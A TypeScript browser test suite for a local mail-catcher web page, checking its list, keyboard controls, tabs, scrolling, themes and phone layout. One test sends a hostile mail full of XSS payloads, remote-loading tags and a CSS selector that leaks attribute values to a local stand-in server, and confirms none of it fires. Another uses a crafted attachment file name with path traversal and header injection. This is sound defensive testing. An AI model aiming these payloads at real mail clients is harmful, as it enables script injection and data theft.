import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { SendMailOptions } from 'nodemailer'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { startMailServer } from '../../packages/mailhog/src/server/mail-server.ts'
import { sender } from '../../packages/mailhog/test/mail-fixture.ts'
import { bundlePage } from '../../scripts/bundle-page.ts'
import {
  chromiumPath,
  faintTexts,
  noChromium,
  openChromium,
  type TestBrowser,
} from '../lib/chromium.ts'

describe.skipIf(chromiumPath === undefined)(`mail page (else skipped: ${noChromium})`, () => {
  let browser: TestBrowser
  let url: string
  let send: (mail: SendMailOptions) => Promise<void>
  const undo = new AsyncDisposableStack()

  beforeAll(async () => {
    browser = undo.use(await openChromium())
    const page = await bundlePage('packages/mailhog/src/server/page')
    const server = await startMailServer({ host: '127.0.0.1', smtpPort: 0, httpPort: 0, page })
    undo.defer(() => server.close())
    const mailer = sender(server.smtpPort)
    undo.defer(() => mailer.end())
    send = mailer.send
    url = `http://127.0.0.1:${server.httpPort}`
  })
  afterAll(() => undo.disposeAsync())
  beforeEach(async () => {
    await fetch(`${url}/api/v1/messages`, { method: 'DELETE', body: '{}' })
  })

  const rows = (page: Awaited<ReturnType<TestBrowser['open']>>['page']) => page.getByRole('option')
  const total = async () =>
    ((await (await fetch(`${url}/api/v1/messages`)).json()) as { total: number }).total

  test('an empty page shows where to send mail, and then mail as it arrives', async () => {
    const { page, faults } = await browser.open()
    await page.goto(url)
    await page.getByText('No mail yet').waitFor()
    expect(await page.locator('.address').textContent()).toMatch(/^smtp:\/\/localhost:\d+$/)
    await page.getByText('live').waitFor()
    await send({ subject: 'First', text: 'Hello' })
    await send({ subject: 'Second', text: 'Your code is 481516.' })
    await page.getByText('2 mails · 2 unread').waitFor()
    expect(await rows(page).allTextContents()).toEqual([
      expect.stringContaining('Second'),
      expect.stringContaining('First'),
    ])
    await rows(page).first().click()
    await page.getByRole('tabpanel').getByText('Your code is 481516.').waitFor()
    await page.getByText('2 mails · 1 unread').waitFor()
    expect(page.url()).toMatch(/\/view\/\w+$/)
    await page.reload()
    await page.getByRole('heading', { name: 'Second' }).waitFor()
    await page.goBack()
    await page.getByText('Choose a mail').waitFor()
    expect(faults).toEqual([])
  })

  test('keys choose, open, mark and delete mails', async () => {
    for (const subject of ['one', 'two', 'three']) await send({ subject, text: subject })
    const { page, faults } = await browser.open()
    await page.goto(url)
    await rows(page).nth(2).waitFor()
    for (const key of ['j', 'j', 'Enter']) await page.keyboard.press(key)
    await page.getByRole('heading', { name: 'two' }).waitFor()
    await page.getByText('3 mails · 2 unread').waitFor()
    await page.keyboard.press('u')
    await page.getByText('3 mails · 3 unread').waitFor()
    for (const key of ['k', 'Enter']) await page.keyboard.press(key)
    await page.getByRole('heading', { name: 'three' }).waitFor()
    await page.keyboard.press('#')
    await page.getByRole('heading', { name: 'two' }).waitFor()
    await expect.poll(total).toBe(2)
    await page.keyboard.press('?')
    await page.getByRole('dialog').getByText('next, previous mail').waitFor()
    for (const key of ['Escape', 'Escape', '/']) await page.keyboard.press(key)
    await page.keyboard.type('subject:one')
    await page.getByText('1 found').waitFor()
    await page.getByRole('button', { name: 'Delete all' }).click()
    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
    await page.getByText('1 mail', { exact: true }).waitFor()
    expect(await total()).toBe(1)
    expect(faults).toEqual([])
  })

  test('tabs show text, headers, source, links and attachments, which can be saved', async () => {
    await send({
      subject: 'All',
      text: 'See https://a.example.test/text.',
      html: '<p>See <a href="https://a.example.test/html?a=1&amp;b=2">the page</a></p>',
      attachments: [
        { filename: '../a"b\r\nx: y;é.html', content: '<script>document.title = "bad"</script>' },
        { filename: 'notes.txt', content: 'These are notes.' },
      ],
    })
    const { page, faults } = await browser.open()
    await page.goto(url)
    await rows(page).first().click()
    const panel = page.getByRole('tabpanel')
    await page.frameLocator('iframe').getByText('See the page').waitFor()
    await page.getByRole('tab', { name: 'Links 2' }).click()
    expect(await panel.getByRole('link').allTextContents()).toEqual([
      'https://a.example.test/html?a=1&b=2',
      'https://a.example.test/text',
    ])
    await page.getByRole('tab', { name: 'Headers' }).click()
    await panel.getByText('multipart/mixed').waitFor()
    await page.keyboard.press('ArrowRight')
    await panel.getByText('Content-Transfer-Encoding').first().waitFor()
    await page.getByRole('tab', { name: 'Attachments 2' }).click()
    await panel.getByRole('button', { name: 'Show' }).nth(1).click()
    await panel.getByText('These are notes.').waitFor()
    const saved = page.waitForEvent('download')
    await panel.getByRole('link', { name: 'Save' }).first().click()
    expect((await saved).suggestedFilename()).not.toMatch(/[/\\\r\n"]/)
    await page.getByRole('tab', { name: 'Text' }).click()
    expect(await panel.getByRole('link').getAttribute('href')).toBe('https://a.example.test/text')
    expect(faults).toEqual([])
  })

  test('thousands of mails are drawn only where they are seen', async () => {
    for (let count = 0; count < 400; count += 1) await send({ subject: `Mail ${count}` })
    const { page, faults } = await browser.open()
    await page.goto(url)
    await page.getByText('400 mails').waitFor()
    await page.evaluate('document.querySelector("#list").scrollTop = 1e6')
    await page.getByText('Mail 0', { exact: true }).waitFor()
    expect(await rows(page).count()).toBeLessThan(60)
    await send({ subject: 'Newest' })
    await page.getByText('401 mails').waitFor()
    await page.evaluate('document.querySelector("#list").scrollTop = 0')
    await page.getByText('Newest', { exact: true }).waitFor()
    expect(faults).toEqual([])
  })

  test('a hostile mail runs nothing, loads nothing and leads nowhere', async () => {
    const asked: string[] = []
    const elsewhere = createServer((request, response) => {
      asked.push(request.url ?? '')
      response.end()
    })
    const connections = { count: 0 }
    elsewhere.on('connection', () => {
      connections.count += 1
    })
    elsewhere.listen(0, '127.0.0.1')
    await once(elsewhere, 'listening')
    await using _ = { [Symbol.asyncDispose]: async () => void elsewhere.close() }
    const bad = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
    const run = `parent.document.title=top.document.title=document.title='bad'`
    await send({
      subject: `<img src=x onerror="${run}"><script>${run}</script>`,
      from: `"<svg onload=${run}>" <a@example.test>`,
      text: 'Click javascript:alert(1)',
      html: `<base href="${bad}/base/"><meta http-equiv="refresh" content="0;url=${bad}/refresh">
        <meta http-equiv="Content-Security-Policy" content="default-src *">
        <link rel="preconnect" href="${bad}"><link/rel=stylesheet href="${bad}/link.css">
        <link rel="prefetch" href="${bad}/prefetch"><LINK
        rel=preload as=image href="${bad}/preload">
        <style>@import "${bad}/import.css"; @font-face { font-family: f; src: url(${bad}/font) }
        body { background: url(${bad}/background); font-family: f }
        p[title^="s"] { background: url(${bad}/exfiltrated) }</style>
        <script>${run}</script><script src="${bad}/script.js"></script>
        <svg onload="${run}"><image href="${bad}/svg"/><use href="${bad}/use#x"/></svg>
        <img src=x onerror="${run}"><img src="${bad}/image"><img srcset="${bad}/srcset 1x">
        <video poster="${bad}/poster" src="${bad}/video"></video><audio src="${bad}/audio" autoplay></audio>
        <iframe src="${bad}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>
        <object data="${bad}/object"></object><embed src="${bad}/embed">
        <form action="${bad}/form"><input name="secret" value="s"><button id="submit">Send</button></form>
        <a id="script" href="javascript:${run}">script</a>
        <a id="top" target="_top" href="${bad}/top">top</a>
        <a id="self" target="_self" href="${bad}/self">self</a>
        <img name="body"><form name="createElement"></form><p title="secret">text</p>
        <a ping="${bad}/ping" href="#here">ping</a>`,
      attachments: [
        { filename: `<img src=x onerror=${run}>.svg`, content: `<svg onload="${run}"/>` },
        { filename: 'page.html', content: `<script>${run}</script>` },
      ],
    })
    const { page } = await browser.open()
    page.on('dialog', () => asked.push('dialog'))
    await page.goto(url)
    await rows(page).first().click()
    const frame = page.frameLocator('iframe')
    await frame.getByText('text', { exact: true }).waitFor()
    expect({ asked, connections }).toEqual({ asked: [], connections: { count: 0 } })
    // Pressing a link may connect to its server, as the user wants to go there.
    for (const id of ['submit', 'script', 'top', 'self'])
      await frame.locator(`#${id}`).click({ noWaitAfter: true })
    const name = `HTML of <img src=x`
    expect(await page.locator('iframe').getAttribute('title')).toContain(name)
    for (const tab of ['Text', 'Headers', 'Source', 'Attachments 2', /^Links/]) {
      await page.getByRole('tab', { name: tab }).click()
      await page.locator('.panel > *').first().waitFor()
    }
    expect(await page.locator('.panel a[href^="javascript:"]').count()).toBe(0)
    // Opened by its address, an attachment is a page without an origin.
    const id = /\w+$/.exec(page.url())?.[0]
    for (const part of [2, 3]) {
      await page.goto(`${url}/api/v1/message/${id}/part/${part}`)
      expect(await page.evaluate('self.origin')).toBe('null')
    }
    await page.goto(`${url}/page/html/${id}`)
    expect(await page.evaluate('self.origin')).toBe('null')
    expect(await page.title()).toBe('')
    expect(asked).toEqual([])

    await page.goto(`${url}/view/${id}`)
    await page.getByRole('tab', { name: 'HTML' }).click()
    await page.getByRole('button', { name: 'Show images' }).click()
    await expect.poll(() => asked).toContain('/image')
    await frame.getByText('text', { exact: true }).waitFor()
    const pictures = ['/background', '/exfiltrated', '/image', '/srcset', '/svg', '/poster']
    expect(asked.filter((path) => !pictures.includes(path))).toEqual([])
    expect(await page.title()).toMatch(/Mail$/)
  })

  test.each(['light', 'dark'] as const)('texts can be read in %s colours', async (theme) => {
    await send({ subject: 'A', text: 'b', html: '<img src="http://a.example.test/x.png">b' })
    await send({ subject: 'Unread', text: 'b' })
    const { page } = await browser.open({ colorScheme: theme })
    await page.goto(url)
    await rows(page).nth(1).click()
    await page.getByRole('heading', { name: 'A' }).waitFor()
    expect(await faintTexts(page)).toEqual([])
    await page.getByRole('button', { name: 'Colours: system' }).click()
    await page.getByRole('button', { name: 'Colours: light' }).click()
    await page.keyboard.press('?')
    await page.getByRole('dialog').waitFor()
    expect(await page.evaluate('getComputedStyle(document.body).colorScheme')).toBe('dark')
    expect(await faintTexts(page)).toEqual([])
  })

  test('on a phone the list and the mail each have the whole width', async () => {
    await send({
      subject: 'long '.repeat(60),
      to: 'x'.repeat(60).concat('@example.test'),
      text: 'b',
    })
    const { page } = await browser.open({ viewport: { width: 360, height: 640 }, isMobile: true })
    await page.goto(url)
    await rows(page).first().click()
    await page.getByRole('tab', { name: 'Source' }).click()
    await page.locator('pre').waitFor()
    expect(await rows(page).first().isVisible()).toBe(false)
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(360)
    await page.getByRole('button', { name: 'Back to the list' }).click()
    expect(await rows(page).first().isVisible()).toBe(true)
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(360)
  })
})
